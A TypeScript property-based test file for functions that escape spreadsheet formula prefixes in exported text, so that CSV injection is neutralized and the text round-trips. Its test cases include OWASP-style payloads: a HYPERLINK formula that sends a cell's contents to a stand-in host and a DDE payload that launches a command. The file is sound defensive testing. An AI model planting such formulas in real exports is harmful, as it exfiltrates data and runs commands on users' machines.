import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { neutralized, restored } from "./formulas.ts";

const nasty = fc.string({
  unit: fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＠", "a", "1", " "),
});

describe("texts in front of a spreadsheet", () => {
  it("never begin as a formula does, and come back as they were", () => {
    fc.assert(
      fc.property(fc.oneof(nasty, fc.string()), (text) => {
        expect(neutralized(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        expect(restored(neutralized(text))).toBe(text);
      }),
      { numRuns: 500 },
    );
  });

  // The payloads of OWASP's page on CSV injection.
  it.each([
    ['=HYPERLINK("http://evil.example?x="&A1)', `'=HYPERLINK("http://evil.example?x="&A1)`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["+86 139 0000 0000", "'+86 139 0000 0000"],
    ["O'Hara", "O'Hara"],
    ["'n Sync", "'n Sync"],
  ])("%s", (text, expected) => {
    expect(neutralized(text)).toBe(expected);
  });
});
